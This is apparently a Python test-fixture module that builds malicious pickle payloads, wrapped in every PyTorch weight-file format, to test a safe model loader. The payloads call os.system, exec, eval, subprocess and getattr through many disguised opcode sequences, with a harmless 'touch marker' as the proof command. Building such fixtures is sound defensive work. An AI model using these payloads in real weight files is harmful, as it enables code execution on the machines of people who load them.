"""Weight files that would run a command if their pickle were loaded without restrictions.

Every way of a pickle to name a function and to call it, in every kind of file that torch.load opens. Unrestricted
`pickle.loads` of such a payload creates the file `marker`, which is how its test knows that the payload is real.
"""

import io
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Final

import torch

_MAGIC: Final = 0x1950A86A20F9469CFC6C
_PROTOCOL: Final = 1001


def _text(value: str) -> bytes:
    """BINUNICODE."""
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def _called(function: str, *arguments: bytes) -> bytes:
    """GLOBAL, a tuple of arguments, REDUCE."""
    module, _, name = function.rpartition(".")
    return b"c" + f"{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def payloads(marker: Path) -> dict[str, bytes]:
    """Pickles by name; those in `RUNS` create the file when Python's own pickle loads them."""
    shell, python = _text(f"touch {marker}"), _text(f"open({str(marker)!r}, 'w').close()")
    inner = b"\x80\x02" + _called("posix.system", shell) + b"."
    as_bytes = b"c_codecs\nencode\n(" + _text(inner.decode("latin-1")) + _text("latin-1") + b"tR"
    return {
        "GLOBAL os.system": b"\x80\x02" + _called("os.system", shell) + b".",
        "GLOBAL posix.system": inner,
        "GLOBAL builtins.exec": b"\x80\x02" + _called("builtins.exec", python) + b".",
        "GLOBAL __builtin__.eval": b"\x80\x02" + _called("__builtin__.eval", python) + b".",
        "GLOBAL subprocess.getoutput": b"\x80\x02" + _called("subprocess.getoutput", shell) + b".",
        "GLOBAL pickle.loads": b"\x80\x02" + _called("pickle.loads", as_bytes) + b".",
        "GLOBAL runpy._run_code": b"\x80\x02" + _called("runpy._run_code", python, b"}") + b".",
        "GLOBAL timeit.timeit": b"\x80\x02" + _called("timeit.timeit", _text("pass"), python) + b".",
        "tensor rebuilt by a command": (
            b"\x80\x02"
            + _called(
                "torch._tensor._rebuild_from_type_v2",
                b"cposix\nsystem\n",
                b"cposix\nsystem\n",
                b"(" + shell + b"t",
                b"}",
            )
            + b"."
        ),
        "storage from bytes": b"\x80\x02" + _called("torch.storage._load_from_bytes", as_bytes) + b".",
        "torch.load": b"\x80\x02" + _called("torch.serialization.load", _text(str(marker))) + b".",
        "dotted way through an allowed class": (
            b"\x80\x04\x8c\x08argparse\x8c\x1eNamespace.__init__.__globals__\x93."
        ),
        "getattr": b"\x80\x02"
        + _called("builtins.getattr", _called("importlib.import_module", _text("posix")), _text("system"))
        + shell
        + b"\x85R.",
        "extension code": b"\x80\x02\x82\x01.",
        "class in __main__": b"\x80\x02c__main__\nMLPClassifier\n)\x81}("
        + _text("x")
        + _called("posix.system", shell)
        + b"ub.",
        "behind a name with a line break": b"\x80\x02ccollections\nOrderedDict\n0" + inner[2:],
        "numpy reconstruct": b"\x80\x02"
        + _called("numpy._core.multiarray._reconstruct", b"cnumpy\nndarray\n", b"(K\x00t", _text("b"))
        + b".",
        "bytearray of 64 GB": b"\x80\x02"
        + _called("builtins.bytearray", b"\x8a\x05\x00\x00\x00\x00\x10")
        + b".",
    } | _without_plain_calls(marker, shell)


def _without_plain_calls(marker: Path, shell: bytes) -> dict[str, bytes]:
    """Calls in disguise."""
    stacked = b"\x8c\x05posix\x8c\x06system\x93"
    return {
        "STACK_GLOBAL": b"\x80\x04" + stacked + shell + b"\x85R.",
        "STACK_GLOBAL from the memo": (
            b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x8c\x06ignore000h\x00h\x01\x93" + shell + b"\x85R."
        ),
        "STACK_GLOBAL after harmless words": (
            b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0bcollections\x8c\x0bOrderedDict\x930"
            + shell
            + b"\x85R."
        ),
        "STACK_GLOBAL dotted": b"\x80\x04\x8c\x07runtime0\x8c\x02os\x8c\x06system\x93" + shell + b"\x85R.",
        "INST": b"(" + shell + b"iposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\n" + shell + b"o.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n(](" + _text("touch") + _text(str(marker)) + b"et\x81.",
        "NEWOBJ_EX": (b"\x80\x04csubprocess\nPopen\n(](" + _text("touch") + _text(str(marker)) + b"et}\x92."),
        "REDUCE inside a state dict": (
            b"\x80\x02ccollections\nOrderedDict\n)R("
            + _text("hidden_layer.weight")
            + _called("posix.system", shell)
            + b"u."
        ),
        "BUILD with __setstate__": (
            b"\x80\x02ccollections\nOrderedDict\n)R}(" + _text("x") + _called("posix.system", shell) + b"ub."
        ),
        "BUILD of a Namespace": (
            b"\x80\x02cargparse\nNamespace\n)\x81}("
            + _text("model")
            + _called("posix.system", shell)
            + b"ub."
        ),
        "BUILD of a Namespace's class": (
            b"\x80\x02cargparse\nNamespace\n)\x81N}(" + _text("__class__") + b"csubprocess\nPopen\nu\x86b."
        ),
    }


# Loaded by pickle.loads, these create the marker, which proves that the payloads work.
RUNS: Final = (
    *("GLOBAL os.system", "GLOBAL posix.system", "GLOBAL builtins.exec", "GLOBAL __builtin__.eval"),
    *("GLOBAL subprocess.getoutput", "GLOBAL pickle.loads", "GLOBAL runpy._run_code", "GLOBAL timeit.timeit"),
    *(
        "STACK_GLOBAL",
        "STACK_GLOBAL from the memo",
        "STACK_GLOBAL after harmless words",
        "STACK_GLOBAL dotted",
    ),
    *("INST", "OBJ", "REDUCE inside a state dict", "BUILD with __setstate__", "BUILD of a Namespace"),
    *("getattr", "behind a name with a line break"),
)


def archive(records: Mapping[str, bytes], name: str = "archive") -> bytes:
    """A torch.save file of torch 1.6 and later."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        for record, content in records.items():
            zipped.writestr(f"{name}/{record}", content)
    return buffer.getvalue()


def _legacy(place: int, payload: bytes) -> bytes:
    """A torch.save file from before torch 1.6, with the payload replacing one of its five pickles."""
    system = {
        "protocol_version": _PROTOCOL,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    whole: tuple[object, ...] = (_MAGIC, _PROTOCOL, system, OrderedDict[str, object](), [])
    parts = [pickle.dumps(part, 2) for part in whole]
    parts[place] = payload
    return b"".join(parts)


def _tar(payload: bytes) -> bytes:
    """A torch.save file from before torch 0.1.10."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, content in (("storages", payload), ("tensors", payload), ("pickle", payload)):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            tar.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


def _script(payload: bytes) -> bytes:
    """A TorchScript archive, which holds code by design."""
    return archive(
        {"data.pkl": payload, "constants.pkl": payload, "code/__torch__.py": b"import os", "version": b"3\n"}
    )


def _saved_beside(payload: bytes) -> bytes:
    """A complete state dict, with the payload as an additional record of its archive."""
    buffer = io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, buffer)
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as zipped:
        warnings.simplefilter("ignore")  # about two records of one name
        zipped.writestr("archive/data.pkl", payload)
    return buffer.getvalue()


CONTAINERS: Final[dict[str, Callable[[bytes], bytes]]] = {
    "plain pickle": lambda payload: payload,
    "torch archive": lambda payload: archive(
        {"data.pkl": payload, "version": b"3\n", "byteorder": b"little"}
    ),
    "archive in an archive": lambda payload: archive(
        {"data.pkl": archive({"data.pkl": payload}), "version": b"3\n"}
    ),
    "pickle before an archive": lambda payload: payload + archive({"data.pkl": payload, "version": b"3\n"}),
    "second data.pkl": _saved_beside,
    "TorchScript": _script,
    "legacy magic number": lambda payload: _legacy(0, payload),
    "legacy object": lambda payload: _legacy(3, payload),
    "legacy system": lambda payload: _legacy(2, payload),
    "legacy storage keys": lambda payload: _legacy(4, payload),
    "tar": _tar,
}


def malicious_files(marker: Path) -> dict[str, bytes]:
    """Every payload in every container, by name."""
    return {
        f"{payload}, {container}": wrap(pickled)
        for payload, pickled in payloads(marker).items()
        for container, wrap in CONTAINERS.items()
    }
